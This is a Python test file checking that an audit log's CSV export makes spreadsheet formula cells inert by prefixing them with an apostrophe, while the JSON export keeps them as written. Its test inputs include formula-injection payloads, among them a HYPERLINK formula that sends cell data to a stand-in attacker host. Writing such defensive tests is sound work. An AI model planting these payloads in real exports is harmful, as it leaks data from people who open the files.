"""The audit log's CSV export: a cell a spreadsheet would run is made inert."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from mergegate.core.audit import AuditEntry, render_csv, render_json

AT = dt.datetime(2026, 12, 2, 7, 40, 1, tzinfo=dt.UTC)


def entry(detail: str, actor: str = "maint") -> AuditEntry:
    return AuditEntry(AT, "github:acme/app", "dismiss", actor, "3f9a1c2e", detail, None)


def test_formula_cells_are_quoted_in_csv_and_kept_as_written_in_json() -> None:
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
               "\tcmd", "\rx"]
    entries = [entry(f"false-positive {h}") for h in hostile] + [entry(h) for h in hostile]
    rows = list(csv.DictReader(io.StringIO(render_csv(entries))))
    details = [r["detail"] for r in rows]
    assert details[: len(hostile)] == [f"false-positive {h}" for h in hostile]  # not at the start
    assert details[len(hostile):] == ["'" + h for h in hostile]
    assert [e["detail"] for e in json.loads(render_json(entries))][len(hostile):] == hostile


def test_ordinary_cells_are_unchanged() -> None:
    [row] = csv.DictReader(io.StringIO(render_csv([entry("accepted-risk fix scheduled")])))
    assert row == {"at": "2026-12-02T07:40:01Z", "repo": "github:acme/app", "action": "dismiss",
                   "actor": "maint", "subject": "3f9a1c2e",
                   "detail": "accepted-risk fix scheduled", "link": ""}
